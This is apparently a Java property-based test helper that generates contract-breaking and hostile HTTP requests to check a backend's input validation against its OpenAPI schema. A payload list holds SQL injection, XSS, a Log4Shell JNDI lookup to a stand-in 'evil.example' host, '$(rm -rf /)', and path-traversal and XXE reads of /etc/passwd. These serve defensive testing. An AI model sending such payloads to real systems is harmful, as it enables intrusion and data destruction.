package nl.werkhub.common;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.function.Function;
import java.util.regex.Pattern;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Tuple;

/**
 * Generated requests that break the contract of one write operation of {@code openapi.yaml}, each
 * one step away from a request the backend accepts: a valid request is taken and exactly one thing
 * in it is made wrong (a field missing, of the wrong type, too long, out of range, off its pattern
 * or enum, not storable; an unknown or duplicated field; malformed or deeply nested JSON; a wrong
 * content type; a hostile path value; a stale or malformed If-Match or Idempotency-Key). Because the
 * rest of the request is right, the refusal cannot come from anything but the broken part.
 *
 * <p>Every request also carries harmless hostility that must not matter: SQL and script fragments
 * and unusual Unicode in the free-text fields, and an odd Accept-Language. The rules are read from
 * the schema (required, type, maxLength, pattern, enum, format, minimum/maximum, multipleOf,
 * maxItems, uniqueItems), so a field added to the contract is attacked the day it is added.
 */
final class HostileRequests {

    static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    /** Jackson cannot write a lone surrogate; it goes in as this marker and is swapped for its escape. */
    private static final String LONE_SURROGATE_MARKER = "@@lone-surrogate@@";

    private HostileRequests() {
    }

    /** A write operation of the contract and the inputs it declares. */
    record Operation(String method, String template, Map<String, JsonNode> pathParameters, boolean ifMatch,
            boolean idempotencyKey, JsonNode bodySchema, String role) {

        String name() {
            return method.toUpperCase(Locale.ROOT) + " " + template;
        }
    }

    /** One request; {@code body} null means none is sent. {@code kind} says what was made wrong. */
    record Request(String kind, Map<String, String> path, Map<String, String> headers, String contentType, String body) {

        Request with(String newKind, Map<String, String> newPath, Map<String, String> newHeaders, String newContentType,
                String newBody) {
            return new Request(newKind, newPath, newHeaders, newContentType, newBody);
        }

        Request withHeader(String newKind, String name, String value) {
            Map<String, String> changed = new LinkedHashMap<>(headers);
            changed.put(name, value);
            return with(newKind, path, changed, contentType, body);
        }

        Request withBody(String newKind, String newBody) {
            return with(newKind, path, headers, contentType, newBody);
        }
    }

    // ---- the operations -------------------------------------------------------------------------

    static List<Operation> writeOperations(JsonNode api) {
        List<Operation> operations = new ArrayList<>();
        Iterator<Map.Entry<String, JsonNode>> paths = api.path("paths").fields();
        while (paths.hasNext()) {
            Map.Entry<String, JsonNode> entry = paths.next();
            for (String method : List.of("post", "put", "patch", "delete")) {
                JsonNode op = entry.getValue().get(method);
                if (op == null) {
                    continue;
                }
                Map<String, JsonNode> pathParameters = new LinkedHashMap<>();
                boolean ifMatch = false;
                boolean idempotencyKey = false;
                for (JsonNode parameter : op.path("parameters")) {
                    JsonNode p = resolve(api, parameter);
                    String in = p.path("in").asText();
                    String name = p.path("name").asText();
                    if (in.equals("path")) {
                        pathParameters.put(name, p.path("schema"));
                    } else if (in.equals("header")) {
                        ifMatch |= name.equalsIgnoreCase("If-Match");
                        idempotencyKey |= name.equalsIgnoreCase("Idempotency-Key");
                    }
                }
                JsonNode schema = op.path("requestBody").path("content").path("application/json").path("schema");
                JsonNode bodySchema = schema.isMissingNode() ? null : resolve(api, schema);
                String role = op.path("security").path(0).path("bearerAuth").path(0).asText();
                operations.add(new Operation(method, entry.getKey(), pathParameters, ifMatch, idempotencyKey, bodySchema, role));
            }
        }
        return operations;
    }

    /** Follows {@code $ref}s (also one beside a description) to the schema itself. */
    static JsonNode resolve(JsonNode api, JsonNode schema) {
        JsonNode current = schema;
        for (int i = 0; i < 10 && current.has("$ref"); i++) {
            current = api.at(current.path("$ref").asText().substring(1));
        }
        return current;
    }

    // ---- harmless hostility: valid input that must be stored as text, never interpreted ----------

    static final List<String> SQL_AND_SCRIPT = List.of("' OR '1'='1", "Robert'); DROP TABLE candidate; --",
            "1; SELECT pg_sleep(5)", "admin'--", "%' UNION SELECT password FROM users --", "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "${jndi:ldap://evil.example/x}", "{{7*7}}",
            "#{7*7}", "../../../../etc/passwd", "$(rm -rf /)", "`id`", "\\' \\\" \\\\", "%00%0d%0a",
            "<!ENTITY e SYSTEM \"file:///etc/passwd\">");

    static final List<String> UNUSUAL_UNICODE = List.of("\u202Eevil\u202C", "zero\u200Bwidth\u200D\uFEFFjoin",
            "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67 familie", "\u0627\u0644\u0639\u0631\u0628\u064A\u0629",
            "e\u0301\u0301\u0301\u0301\u0301", "\uD835\uDD7F\uD835\uDD8D\uD835\uDD8A", "Ω≈ç√∫˜µ≤≥÷",
            "Zoë Ĳsselmeer-Ölçek", "名前 テスト", "\u00A0x\u2028y\u2029");

    /** Fields whose value is free text: the contract puts no rule on their content beyond length. */
    static final List<String> FREE_TEXT = List.of("name", "contactPerson", "title", "description", "interests",
            "motivation", "notes", "note", "agreedActions", "firstName", "lastName", "labelNl", "labelEn");

    static Arbitrary<String> harmlessText() {
        return Arbitraries.oneOf(Arbitraries.of(SQL_AND_SCRIPT), Arbitraries.of(UNUSUAL_UNICODE));
    }

    static Arbitrary<String> hostileLanguage() {
        return Arbitraries.of("nl", "en", "*", "xx-INVALID;q=abc", "nl;q=2, en;q=-1", "a".repeat(3_000), "de, fr;q=0.5",
                "en-US,en;q=0.9,nl;q=0.8", ";;;");
    }

    /** The valid request with its free-text fields (top level) and Accept-Language made hostile but valid. */
    static Arbitrary<Request> withHarmlessHostility(Request valid, JsonNode bodySchema) {
        Arbitrary<String> language = hostileLanguage();
        if (valid.body() == null || bodySchema == null) {
            return language.map(lang -> valid.withHeader("valid", "Accept-Language", lang));
        }
        ObjectNode base = (ObjectNode) read(valid.body());
        List<String> freeText = new ArrayList<>();
        base.fieldNames().forEachRemaining(name -> {
            if (FREE_TEXT.contains(name)) {
                freeText.add(name);
            }
        });
        Arbitrary<List<String>> texts = harmlessText().list().ofSize(freeText.size());
        return net.jqwik.api.Combinators.combine(texts, language).as((values, lang) -> {
            ObjectNode body = base.deepCopy();
            for (int i = 0; i < freeText.size(); i++) {
                int max = bodySchema.path("properties").path(freeText.get(i)).path("maxLength").asInt(Integer.MAX_VALUE);
                String text = values.get(i);
                body.put(freeText.get(i), text.length() > max ? text.substring(0, max) : text);
            }
            return valid.withHeader("valid", "Accept-Language", lang).withBody("valid", write(body));
        });
    }

    // ---- breaking one thing -----------------------------------------------------------------------

    /** Requests that each break exactly one rule of the operation's contract; {@code valid} is accepted as it is. */
    static Arbitrary<Request> invalid(JsonNode api, Operation op, Request valid) {
        List<Tuple.Tuple2<Integer, Arbitrary<? extends Request>>> kinds = new ArrayList<>();
        if (!op.pathParameters().isEmpty()) {
            kinds.add(Tuple.of(2, hostilePathValue(op, valid)));
        }
        if (op.ifMatch()) {
            kinds.add(Tuple.of(op.bodySchema() == null ? 3 : 1, wrongIfMatch(valid)));
        }
        if (op.idempotencyKey()) {
            kinds.add(Tuple.of(1, malformedIdempotencyKey(valid)));
        }
        if (op.bodySchema() != null) {
            kinds.add(Tuple.of(10, brokenField(api, op.bodySchema(), valid)));
            kinds.add(Tuple.of(2, malformedJson(valid)));
            kinds.add(Tuple.of(1, wrongContentType(valid)));
        }
        return Arbitraries.frequencyOf(kinds.toArray(Tuple.Tuple2[]::new));
    }

    static Arbitrary<Request> hostilePathValue(Operation op, Request valid) {
        Arbitrary<String> values = Arbitraries.oneOf(Arbitraries.of(SQL_AND_SCRIPT), Arbitraries.of(UNUSUAL_UNICODE),
                Arbitraries.of("00000000-0000-0000-0000-000000000000", "not-a-uuid", "-1", "0", "NaN", "null", "..",
                        "%2e%2e%2f", "a\u0000b", "\uFFFF", "9".repeat(400), "x".repeat(1_500), "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF"),
                Arbitraries.strings().all().ofMinLength(1).ofMaxLength(30));
        // a value the parameter's own pattern allows may name another resource (PUT creates one): left out
        return net.jqwik.api.Combinators.combine(Arbitraries.of(List.copyOf(op.pathParameters().keySet())), values)
                .as((name, value) -> {
                    Map<String, String> path = new LinkedHashMap<>(valid.path());
                    path.put(name, value);
                    return valid.with("path " + name, path, valid.headers(), valid.contentType(), valid.body());
                }).filter(r -> !r.path().equals(valid.path()) && r.path().entrySet().stream()
                        .noneMatch(e -> !e.getValue().equals(valid.path().get(e.getKey()))
                                && op.pathParameters().get(e.getKey()).has("pattern")
                                && Pattern.compile(op.pathParameters().get(e.getKey()).path("pattern").asText())
                                        .matcher(e.getValue()).find()));
    }

    static Arbitrary<Request> wrongIfMatch(Request valid) {
        String current = valid.headers().get("If-Match");
        String bare = current.replace("\"", "");
        return Arbitraries.of("\"-1\"", "\"999999999\"", "\"99999999999999999999999\"", "W/" + current, bare, "\"\"",
                "garbage", "\"" + bare, "' OR 1=1 --", "\"" + "9".repeat(3_000) + "\"", "\"\u00e9" + bare + "\"",
                "\"0x" + bare + "\"", "\"" + bare + ".0\"", "\"+" + bare + "\"")
                .map(value -> valid.withHeader("If-Match", "If-Match", value));
    }

    static Arbitrary<Request> malformedIdempotencyKey(Request valid) {
        return Arbitraries.of("", " ", "k".repeat(300), "sleutel-\u00f1", "tab\there", "\"\"")
                .map(value -> valid.withHeader("Idempotency-Key", "Idempotency-Key", value));
    }

    static Arbitrary<Request> wrongContentType(Request valid) {
        // not "application/json; charset=utf-16": JSON is UTF-8 and a charset parameter has no effect (RFC 8259, 11)
        return Arbitraries.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data",
                "application/merge-patch+json", "garbage", "application/octet-stream", "text/html; charset=utf-8",
                "application/jsonx", "json")
                .map(type -> valid.with("content type", valid.path(), valid.headers(), type, valid.body()));
    }

    static Arbitrary<Request> malformedJson(Request valid) {
        String body = valid.body();
        String firstField = read(body).fieldNames().next();
        Arbitrary<String> broken = Arbitraries.oneOf(
                Arbitraries.of("", " ", "null", "[]", "{", "}", "true", "\"text\"", "-0", "<xml/>", "a=b&c=d",
                        body.substring(0, body.length() / 2), body + "}", body + body, "[" + body + "]",
                        body.replaceFirst("\\{", "{'a':1,"), body.replaceFirst("\\}$", ",}"),
                        body.replaceFirst("\\{", "{\"a\":1 /* comment */,"), body.replaceFirst("\\{", "{\"a\":NaN,"),
                        // not a byte order mark before the body: a parser may ignore it (RFC 8259, 8.1)
                        body.replaceFirst("\\{", "{\"a\":\"\\\\x41\","), body.replaceFirst(":", "::"),
                        body.replaceFirst("\\{", java.util.regex.Matcher.quoteReplacement(
                                "{\"" + firstField + "\":" + read(body).get(firstField) + ","))),
                Arbitraries.integers().between(1_200, 40_000).map(n -> "[".repeat(n) + "]".repeat(n)),
                Arbitraries.integers().between(1_200, 20_000).map(n -> "{\"a\":".repeat(n) + "1" + "}".repeat(n)),
                Arbitraries.integers().between(1_200, 20_000).map(n -> body.replaceFirst("\\{",
                        "{\"nested\":" + "[".repeat(n) + "]".repeat(n) + ",")),
                Arbitraries.strings().all().ofMaxLength(200));
        return broken.map(b -> valid.withBody(describeJson(b, firstField), b));
    }

    private static String describeJson(String body, String firstField) {
        if (body.contains("\"" + firstField + "\":") && body.indexOf("\"" + firstField + "\":")
                != body.lastIndexOf("\"" + firstField + "\":")) {
            return "JSON duplicate field";
        }
        return body.length() > 2_000 ? "JSON deeply nested" : "JSON malformed";
    }

    /** One field somewhere in the body (at the top or nested) broken against its schema. */
    static Arbitrary<Request> brokenField(JsonNode api, JsonNode schema, Request valid) {
        JsonNode body = read(valid.body());
        List<Location> locations = new ArrayList<>();
        collectObjects(api, schema, body, "", locations);
        return Arbitraries.of(locations).flatMap(location -> breakObject(api, location).map(change -> {
            JsonNode copy = body.deepCopy();
            ObjectNode target = location.pointer().isEmpty() ? (ObjectNode) copy : (ObjectNode) copy.at(location.pointer());
            String kind = change.apply(target);
            return valid.withBody(kind, write(copy).replace(LONE_SURROGATE_MARKER, "\\ud800"));
        }));
    }

    /** An object in the valid body and the schema it must meet. */
    record Location(String pointer, JsonNode schema) {
    }

    private static void collectObjects(JsonNode api, JsonNode schema, JsonNode node, String pointer, List<Location> out) {
        JsonNode s = resolve(api, schema);
        if (node.isObject() && s.has("properties")) {
            out.add(new Location(pointer, s));
            node.fields().forEachRemaining(field -> {
                JsonNode property = s.path("properties").path(field.getKey());
                if (!property.isMissingNode()) {
                    collectObjects(api, property, field.getValue(), pointer + "/" + field.getKey(), out);
                }
            });
        } else if (node.isArray() && s.has("items")) {
            for (int i = 0; i < node.size(); i++) {
                collectObjects(api, s.path("items"), node.get(i), pointer + "/" + i, out);
            }
        }
    }

    /** A change to the object that breaks its schema; the change answers what it did. */
    private static Arbitrary<Function<ObjectNode, String>> breakObject(JsonNode api, Location location) {
        JsonNode schema = location.schema();
        List<Arbitrary<Function<ObjectNode, String>>> changes = new ArrayList<>();
        String at = location.pointer().isEmpty() ? "" : location.pointer() + "/";
        List<String> required = new ArrayList<>();
        schema.path("required").forEach(r -> required.add(r.asText()));
        if (!required.isEmpty()) {
            changes.add(Arbitraries.of(required).map(name -> o -> {
                o.remove(name);
                return "missing " + at + name;
            }));
            changes.add(Arbitraries.of(required).map(name -> o -> {
                o.putNull(name);
                return "null " + at + name;
            }));
        }
        List<String> known = new ArrayList<>();
        schema.path("properties").fieldNames().forEachRemaining(known::add);
        changes.add(Arbitraries.of("id", "version", "createdBy", "createdAt", "__proto__", "constructor", "bsn", "role",
                "admin", "municipality", "ownerId", "' OR 1=1", "<script>", "").filter(name -> !known.contains(name))
                .map(name -> o -> {
                    o.put(name, "1");
                    return "unknown field";
                }));
        for (String name : known) {
            JsonNode property = resolve(api, schema.path("properties").path(name));
            List<Arbitrary<JsonNode>> wrong = wrongValues(property);
            if (!wrong.isEmpty()) {
                boolean optional = !required.contains(name);
                changes.add(Arbitraries.oneOf(wrong).filter(value -> !(optional && blankText(value))).map(value -> o -> {
                    o.set(name, value);
                    return "field " + at + name;
                }));
            }
            if (property.path("uniqueItems").asBoolean() || property.has("maxItems")) {
                int max = property.path("maxItems").asInt(Integer.MAX_VALUE);
                changes.add(Arbitraries.integers().between(1, 50).map(extra -> o -> {
                    // a valid item repeated: a duplicate, and with enough of them one too many
                    JsonNode items = o.path(name);
                    if (!items.isArray() || items.isEmpty()) {
                        o.set(name, NODES.arrayNode().add(NODES.arrayNode()));
                        return "field " + at + name;
                    }
                    ArrayNode more = items.deepCopy();
                    int target = property.path("uniqueItems").asBoolean() ? items.size() + extra : max + extra;
                    while (more.size() < target) {
                        more.add(items.get(0).deepCopy());
                    }
                    o.set(name, more);
                    return "items " + at + name;
                }));
            }
        }
        return Arbitraries.oneOf(changes);
    }

    /**
     * Text is trimmed before it is checked, and an optional text left empty counts as absent
     * (docs/api.md "Conventions"): {@code " "} in an optional field is no mistake.
     */
    static boolean blankText(JsonNode value) {
        return value.isTextual() && value.asText().trim().isEmpty() && value.asText().indexOf('\u0000') < 0;
    }

    /** Values that break the property's schema, whatever else is in the body. */
    static List<Arbitrary<JsonNode>> wrongValues(JsonNode property) {
        List<Arbitrary<JsonNode>> wrong = new ArrayList<>();
        String type = property.path("type").asText("");
        switch (type) {
            case "string" -> {
                wrong.add(Arbitraries.<JsonNode>of(NODES.numberNode(12), NODES.numberNode(1.5), NODES.booleanNode(true),
                        NODES.objectNode().put("a", "b"), NODES.arrayNode().add("a")));
                // the database stores UTF-8 text: NUL and unpaired surrogates cannot be kept as sent
                wrong.add(Arbitraries.of("nul\u0000byte", "\u0000", LONE_SURROGATE_MARKER, "a" + LONE_SURROGATE_MARKER + "b")
                        .map(s -> (JsonNode) NODES.textNode(s)));
                if (property.has("maxLength")) {
                    int max = property.path("maxLength").asInt();
                    wrong.add(Arbitraries.integers().between(max + 1, max + 3_000).map(n -> (JsonNode) NODES.textNode("é".repeat(n))));
                }
                if (property.has("enum")) {
                    List<String> allowed = new ArrayList<>();
                    property.path("enum").forEach(v -> allowed.add(v.asText()));
                    wrong.add(Arbitraries.oneOf(Arbitraries.of(allowed).map(v -> v.toLowerCase(Locale.ROOT)),
                            Arbitraries.of(allowed).map(v -> v + " "), Arbitraries.of(allowed).map(v -> "\t" + v),
                            Arbitraries.of(allowed).map(v -> v + "_"), Arbitraries.of(allowed).map(v -> v.replace('_', '-')),
                            Arbitraries.of(allowed).map(v -> v + "\u0000"), Arbitraries.of(SQL_AND_SCRIPT), Arbitraries.of("", "0"))
                            .filter(v -> !allowed.contains(v)).map(v -> (JsonNode) NODES.textNode(v)));
                }
                if (property.has("pattern")) {
                    Pattern pattern = Pattern.compile(property.path("pattern").asText());
                    wrong.add(Arbitraries.oneOf(Arbitraries.of(SQL_AND_SCRIPT), Arbitraries.of(UNUSUAL_UNICODE),
                            Arbitraries.of("", " ", "\t", "\r\n", "   "), Arbitraries.strings().all().ofMaxLength(12))
                            .filter(v -> !pattern.matcher(v.trim()).find()).map(v -> (JsonNode) NODES.textNode(v)));
                }
                switch (property.path("format").asText("")) {
                    case "uuid" -> wrong.add(Arbitraries.of("not-a-uuid", "00000000-0000-0000-0000-00000000000g",
                            "0000000000000000000000000000000", "{00000000-0000-0000-0000-000000000000}", "")
                            .map(v -> (JsonNode) NODES.textNode(v)));
                    case "date" -> wrong.add(Arbitraries.of("2026-02-30", "2026-13-01", "27-11-2026", "2026/11/27",
                            "2026-11-27T10:00:00Z", "+999999999-12-31", "-0001-01-01", "", "morgen")
                            .map(v -> (JsonNode) NODES.textNode(v)));
                    case "email" -> wrong.add(Arbitraries.of("geen-email", "a@", "@example.nl", "a b@example.nl",
                            "a@@example.nl").map(v -> (JsonNode) NODES.textNode(v)));
                    default -> {
                    }
                }
            }
            case "integer", "number" -> {
                wrong.add(Arbitraries.<JsonNode>of(NODES.textNode("12"), NODES.booleanNode(true), NODES.objectNode(),
                        NODES.arrayNode().add(1), NODES.textNode("")));
                if (type.equals("integer")) {
                    wrong.add(Arbitraries.<JsonNode>of(NODES.numberNode(1.5), NODES.numberNode(2.000001),
                            NODES.numberNode(1L + Integer.MAX_VALUE), NODES.numberNode(Long.MIN_VALUE),
                            NODES.numberNode(new BigInteger("9".repeat(40))), NODES.numberNode(new BigDecimal("1e400"))));
                }
                if (property.has("minimum")) {
                    BigDecimal min = property.path("minimum").decimalValue();
                    wrong.add(Arbitraries.<JsonNode>of(NODES.numberNode(min.subtract(type.equals("integer") ? BigDecimal.ONE
                            : new BigDecimal("0.01"))), NODES.numberNode(-1e308), NODES.numberNode(Integer.MIN_VALUE)));
                }
                if (property.has("maximum")) {
                    BigDecimal max = property.path("maximum").decimalValue();
                    wrong.add(Arbitraries.<JsonNode>of(NODES.numberNode(max.add(type.equals("integer") ? BigDecimal.ONE
                            : new BigDecimal("0.01"))), NODES.numberNode(1e308), NODES.numberNode(Integer.MAX_VALUE)));
                }
                if (property.has("multipleOf")) {
                    wrong.add(Arbitraries.<JsonNode>of(NODES.numberNode(new BigDecimal("1.001")),
                            NODES.numberNode(new BigDecimal("250.005"))));
                }
            }
            case "boolean" -> wrong.add(Arbitraries.<JsonNode>of(NODES.textNode("true"), NODES.numberNode(1),
                    NODES.numberNode(0), NODES.textNode("ja"), NODES.objectNode(), NODES.arrayNode().add(true)));
            case "array" -> {
                wrong.add(Arbitraries.<JsonNode>of(NODES.objectNode(), NODES.textNode("a,b"), NODES.numberNode(1),
                        NODES.booleanNode(false)));
                wrong.add(Arbitraries.integers().between(1, 4).map(n -> {
                    ArrayNode array = NODES.arrayNode();
                    for (int i = 0; i < n; i++) {
                        array.add(NODES.arrayNode().add(NODES.arrayNode()));
                    }
                    return (JsonNode) array;
                }));
            }
            case "object" -> wrong.add(Arbitraries.<JsonNode>of(NODES.arrayNode(), NODES.textNode("{}"), NODES.numberNode(1),
                    NODES.booleanNode(true)));
            default -> {
            }
        }
        return wrong;
    }

    // ---- JSON ------------------------------------------------------------------------------------

    static JsonNode read(String json) {
        try {
            return JSON.readTree(json);
        } catch (JsonProcessingException e) {
            throw new IllegalArgumentException(e);
        }
    }

    static String write(JsonNode node) {
        try {
            return JSON.writeValueAsString(node);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }
}
